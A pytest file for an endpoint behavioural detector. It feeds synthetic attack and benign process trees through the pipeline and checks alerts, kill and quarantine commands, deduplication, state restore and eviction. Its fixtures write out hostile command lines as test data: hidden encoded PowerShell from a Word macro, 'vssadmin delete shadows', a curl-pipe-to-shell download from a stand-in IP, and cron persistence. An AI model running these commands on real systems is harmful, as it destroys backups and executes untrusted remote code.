"""The pure detection path end to end: attack trees in, named decisions out; idempotent and restorable."""

from __future__ import annotations

from typing import Any

import pytest
from test_scoring import CountingModel

from pipeline.detect import Detector, DetectorConfig
from pipeline.eventkit import EventKit
from pipeline.model.provisional import ProvisionalRules
from pipeline.policy import Exclusion, ExclusionKind, Policy, PolicyConfig
from schemas.alerts import DETECTION_NAME, Alert
from schemas.commands import Command, CommandAction
from schemas.common import Mode
from schemas.events import BehaviorEvent
from schemas.verdicts import Verdict

EXPLORER = r"C:\Windows\explorer.exe"
WORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
VSS = r"C:\Windows\System32\vssadmin.exe"
DROPPER = r"C:\Users\ann\AppData\Local\Temp\svc-update.exe"
SHA = "9f" * 32
OFFICE_GLOB = r"C:\Program Files\Microsoft Office\*"


def windows_attack(kit: EventKit) -> list[BehaviorEvent]:
    return [
        kit.start("e", EXPLORER, "C:\\Windows\\Explorer.EXE"),
        kit.start("w", WORD, 'WINWORD.EXE /n "C:\\Users\\ann\\Downloads\\invoice.docm"', parent="e"),
        kit.start(
            "p", PS, "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", parent="w"
        ),
        kit.start("d", DROPPER, "svc-update.exe /i", parent="p", sha256=SHA),
        kit.start("v", VSS, "vssadmin.exe delete shadows /all /quiet", parent="p"),
    ]


def linux_attack(kit: EventKit) -> list[BehaviorEvent]:
    return [
        kit.start("sshd", "/usr/sbin/sshd", "sshd: bob [priv]", uid=0),
        kit.start("b", "/bin/bash", "-bash", parent="sshd", uid=1000),
        kit.start("s", "/bin/sh", "sh -c 'curl -s http://198.51.100.3/i.sh | sh'", parent="b", uid=1000),
        kit.connect("s", "198.51.100.3", 80),
        kit.start("c", "/usr/bin/crontab", "crontab /tmp/.c", parent="s", uid=1000),
        kit.write("c", "/var/spool/cron/crontabs/bob"),
    ]


def benign(kit: EventKit) -> list[BehaviorEvent]:
    return [
        kit.start("e", EXPLORER, "C:\\Windows\\Explorer.EXE"),
        kit.start("ch", r"C:\Program Files\Google\Chrome\Application\chrome.exe", "chrome.exe", parent="e"),
        kit.connect("ch", "142.250.74.110", 443),
        kit.write("ch", r"C:\Users\ann\AppData\Local\Google\Chrome\User Data\Default\Cache\f_0001"),
        kit.start("code", r"C:\Program Files\Microsoft VS Code\Code.exe", "Code.exe", parent="e"),
        kit.start("git", r"C:\Program Files\Git\cmd\git.exe", "git status --porcelain", parent="code"),
        kit.reg("ch", r"HKCU\Software\Google\Chrome\BLBeacon", "version", "124.0"),
    ]


def run(detector: Detector, events: list[BehaviorEvent], now_ms: int) -> list[object]:
    return [*detector.process(events, now_ms), *detector.flush(now_ms)]


def detector(mode: Mode = Mode.BLOCK, **config: object) -> Detector:
    return Detector(ProvisionalRules(), Policy(PolicyConfig(default_mode=mode)), DetectorConfig(**config))  # type: ignore[arg-type]


def only(decisions: list[object], kind: type) -> list[object]:
    return [d for d in decisions if isinstance(d, kind)]


def test_office_macro_tree_is_blocked_with_the_right_names() -> None:
    kit = EventKit()
    decisions = run(detector(), windows_attack(kit), kit.now_ms)
    (alert,) = only(decisions, Alert)
    assert isinstance(alert, Alert)
    assert DETECTION_NAME.match(alert.detection_name)
    assert alert.detection_name.startswith("Behavior:Win32/Impact.")
    assert alert.mode is Mode.BLOCK and "provisional" in alert.model_version
    assert alert.process_tree.root_process_key == "w"
    assert {n.process_key for n in alert.process_tree.nodes} == {"w", "p", "d", "v"}
    assert "T1490" in alert.techniques and alert.top_features
    assert any(e.payload.kind == "process_start" for e in alert.process_tree.evidence)
    commands = only(decisions, Command)
    assert [(c.action, c.process_key or c.path) for c in commands] == [  # type: ignore[attr-defined]
        (CommandAction.KILL_PROCESS_TREE, "w"),
        (CommandAction.QUARANTINE_FILE, DROPPER),
    ]
    (verdict,) = only(decisions, Verdict)
    assert verdict.artifact_id == SHA  # type: ignore[attr-defined]


def test_linux_download_and_cron_tree_is_detected() -> None:
    kit = EventKit("srv-1", "linux")
    (alert,) = only(run(detector(Mode.AUDIT), linux_attack(kit), kit.now_ms), Alert)
    assert isinstance(alert, Alert)
    assert alert.detection_name.startswith("Behavior:Linux/") and DETECTION_NAME.match(alert.detection_name)
    assert alert.tactic.value in {"Persistence", "Execution", "CommandAndControl"}
    assert alert.process_tree.root_process_key == "b"  # sshd is an anchor, never killed
    assert alert.mode is Mode.AUDIT and all(a.audited for a in alert.actions)


def test_benign_trees_produce_nothing() -> None:
    kit = EventKit()
    d = detector()
    assert run(d, benign(kit), kit.now_ms) == []
    assert d.stats.rows_scored > 0
    assert d.forest_stats()["devices"] == 1 and d.forest_stats()["nodes"] == 4


def test_redelivered_events_do_not_duplicate_alerts() -> None:
    kit = EventKit()
    d = detector()
    events = windows_attack(kit)
    first = run(d, events, kit.now_ms)
    assert len(only(first, Alert)) == 1
    assert run(d, events, kit.now_ms + 1_000) == []
    kit.advance(1_000)
    more = [
        kit.write("v", r"C:\Temp\x.log"),
        kit.start("v2", VSS, "vssadmin delete shadows /all", parent="p"),
    ]
    assert only(run(d, more, kit.now_ms), Alert) == []  # same tree, same tactic and band: no new alert
    assert d.stats.realerts_skipped >= 1


def test_restored_state_keeps_trees_and_alert_marks() -> None:
    kit = EventKit()
    events = windows_attack(kit)
    first = detector()
    assert run(first, events[:2], kit.now_ms) == []  # explorer and Word: nothing yet
    state = first.device_state("dev-1")
    assert state is not None and first.device_state("nope") is None
    second = detector()
    assert second.restore_device(state) == "dev-1"
    decisions = run(second, events[2:], kit.now_ms)
    (alert,) = only(decisions, Alert)
    assert alert.process_tree.root_process_key == "w"  # type: ignore[attr-defined]
    again = detector()
    again.restore_device(second.device_state("dev-1") or b"")
    assert run(again, events, kit.now_ms) == []  # redelivered: dropped by seq
    fresh = [kit.start("v3", VSS, "vssadmin delete shadows /all /quiet", parent="p")]
    assert only(run(again, fresh, kit.now_ms), Alert) == []  # alert mark survived the restore
    assert again.stats.realerts_skipped == 1
    again.drop_device("dev-1")
    assert "dev-1" not in again.forests


def test_streaming_alerts_early_and_reaches_the_same_final_alert_as_a_batch() -> None:
    """Scored event by event, the tree alerts as Execution first, then as Impact (a new tactic);
    scored as one batch (as hunting may), only the final Impact alert: same id in both."""
    kit = EventKit()
    events = windows_attack(kit)
    one_by_one = detector(max_rows=1)
    streamed = [d for e in events for d in one_by_one.process([e], kit.now_ms)] + one_by_one.flush(kit.now_ms)
    batched = run(detector(), events, kit.now_ms)
    streamed_alerts = [d for d in streamed if isinstance(d, Alert)]
    (final,) = [d for d in batched if isinstance(d, Alert)]
    assert [a.tactic.value for a in streamed_alerts] == ["Execution", "Impact"]
    assert streamed_alerts[-1].alert_id == final.alert_id


def test_exclusion_suppresses_through_the_detector() -> None:
    kit = EventKit()
    exclusion = Exclusion("it-tools", ExclusionKind.PATH, OFFICE_GLOB)
    policy = Policy(PolicyConfig(default_mode=Mode.BLOCK, exclusions=(exclusion,)))
    d = Detector(ProvisionalRules(), policy)
    assert run(d, windows_attack(kit), kit.now_ms) == []
    assert policy.suppressed["it-tools"] == 1 and d.stats.suppressed == 1


def test_unbuildable_decisions_are_counted_not_raised(caplog: pytest.LogCaptureFixture) -> None:
    kit = EventKit()
    d = detector()
    assert run(d, windows_attack(kit), now_ms=0) == []  # 1970 is outside the contracts' time range
    assert d.stats.decision_errors == 1
    assert "cannot build decisions" in caplog.text


def test_cut_tree_without_process_starts_is_still_scored() -> None:
    kit = EventKit()
    run_key = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"
    events = [
        kit.event("x", kit.reg("x", run_key, "updater", DROPPER).payload, image=PS, parent="unknown-parent"),
        kit.event("x", kit.write("x", DROPPER).payload, image=PS, parent="unknown-parent"),
    ]
    (alert,) = only(run(detector(Mode.AUDIT), events, kit.now_ms), Alert)
    assert isinstance(alert, Alert) and alert.tactic.value == "Persistence"
    assert alert.process_tree.root_process_key == "x"


def test_a_flush_whose_incident_cannot_be_built_marks_no_root_and_alerts_both_next_time(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Incidents are built before any is decided: when one cannot be built the record fails whole
    # (the worker dead-letters it) and no root is marked, so neither alert is lost on the next flush.
    kit = EventKit()
    detector = Detector(CountingModel(), config=DetectorConfig(max_rows=10_000, max_delay_ms=0))
    vss = r"C:\Windows\System32\vssadmin.exe"
    attack = [kit.start(key, vss, "vssadmin delete shadows /all") for key in ("a", "b")]
    built = Detector._build
    calls: list[str] = []

    def second_fails(self: Detector, forest: Any, root: Any, *args: Any) -> Any:
        calls.append(root.key)
        if len(calls) == 2:
            raise RuntimeError("evidence unreadable")
        return built(self, forest, root, *args)

    monkeypatch.setattr(Detector, "_build", second_fails)
    with pytest.raises(RuntimeError):
        detector.process(attack, now_ms=kit.now_ms)
    assert all(node.alert_mark is None for node in detector.forests[kit.device_id].nodes.values())
    assert detector.stats.incidents == 0
    monkeypatch.setattr(Detector, "_build", built)
    detector.process([kit.write("a", r"C:\Temp\x.log"), kit.write("b", r"C:\Temp\y.log")], now_ms=kit.now_ms)
    assert detector.stats.incidents == 2 and detector.stats.realerts_skipped == 0


def _late(kit: EventKit, minutes: int) -> BehaviorEvent:
    """An unrelated service host starting `minutes` later on the same device (an anchor: never scored)."""
    kit.advance(minutes * 60_000)
    return kit.start("late", r"C:\Windows\System32\svchost.exe", "svchost.exe -k netsvcs", parent="smss")


@pytest.mark.parametrize("minutes", [11, 150])
def test_a_batch_spanning_the_eviction_ttls_scores_its_processes_before_evicting_them(minutes: int) -> None:
    """A device's batch can span more than the exited (10 min) or idle (2 h) TTL: an agent's spool sent
    after a night offline, a sparse 4688 log hunted in one chunk. Its processes are scored first, then
    evicted; before, TTL eviction ran while the batch was folded and dropped them unscored."""
    kit = EventKit()
    attack = windows_attack(kit)
    ended = [kit.end(key) for key in ("v", "d", "p", "w")] if minutes < 120 else []
    d = detector()
    decisions = run(d, [*attack, *ended, _late(kit, minutes)], kit.now_ms)
    (alert,) = only(decisions, Alert)
    assert isinstance(alert, Alert) and alert.detection_name.startswith("Behavior:Win32/Impact.")
    assert alert.process_tree.root_process_key in {"w", "p"}  # the descendants left the 5-minute window
    assert not {"w", "p", "d", "v"} & set(d.forests[kit.device_id].nodes)  # and evicted once scored


def test_eviction_waits_for_the_flush_that_scores_the_changes() -> None:
    """Ingest alone never evicts (the changes are unscored); the next flush scores, then evicts."""
    kit = EventKit()
    d = detector()
    attack = windows_attack(kit)
    ended = [kit.end(key) for key in ("v", "d", "p", "w")]
    d.ingest([*attack, *ended, _late(kit, 11)], kit.now_ms)
    assert "w" in d.forests[kit.device_id].nodes
    assert only(d.flush(kit.now_ms), Alert)
    assert "w" not in d.forests[kit.device_id].nodes


def test_the_overlapped_flush_evicts_once_decided_and_an_empty_flush_evicts_at_once() -> None:
    """The worker's `start_flush`/`finish_flush` evict like `flush`; a flush with no row to score (the batch
    held only a service host) evicts the device that came due at once."""
    kit = EventKit()
    d = detector()
    attack = windows_attack(kit)
    ended = [kit.end(key) for key in ("v", "d", "p", "w")]
    d.ingest([*attack, *ended, _late(kit, 11)], kit.now_ms)
    pending = d.start_flush(kit.now_ms)
    assert pending is not None and "w" in d.forests[kit.device_id].nodes
    assert only(d.finish_flush(pending), Alert)
    assert "w" not in d.forests[kit.device_id].nodes
    kit.advance(130 * 60_000)  # e's idle time runs out (2 h); only a service host changes
    d.ingest([kit.start("later", r"C:\Windows\System32\svchost.exe", "svchost.exe -k rpcss")], kit.now_ms)
    assert "e" in d.forests[kit.device_id].nodes
    assert d.flush(kit.now_ms) == [] and "e" not in d.forests[kit.device_id].nodes


def test_a_flush_carries_each_alerts_route_to_its_threshold_and_explanation(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """One flush alerting through both boosters (a lone `auditpol /clear` on one device, LSASS dumped with
    comsvcs on another: no lone-command indicator, so the full booster): the route kept in the flush's
    scores gives each alert the threshold and explanation that working the route out again gives
    (`RowScore.lone`, `detect._known`)."""
    from pipeline import detect
    from pipeline.scoring import load_model
    from pipeline.training.probes import ATTACK_PROBES, probe_events

    by_name = {probe.name: probe for probe in ATTACK_PROBES}
    events = [*probe_events(by_name["audit policy cleared"], device="d-lone"),
              *probe_events(by_name["LSASS dump with comsvcs"], device="d-full")]  # fmt: skip
    now = 1_800_000_000_000

    def alerts() -> list[str]:
        detector = Detector(load_model(), config=DetectorConfig(max_rows=10_000, max_delay_ms=60_000))
        decisions = detector.process(events, now) + detector.flush(now)
        return sorted(d.model_dump_json() for d in decisions if isinstance(d, Alert))

    carried = alerts()
    thresholds = sorted({Alert.model_validate_json(a).threshold for a in carried})
    model = load_model()
    lowest = [model.lone_thresholds["malicious"], model.thresholds["malicious"]]  # type: ignore[attr-defined]
    assert thresholds == lowest and lowest[0] < lowest[1]  # one alert through each booster
    monkeypatch.setattr(detect, "_known", lambda routes: None)
    assert alerts() == carried
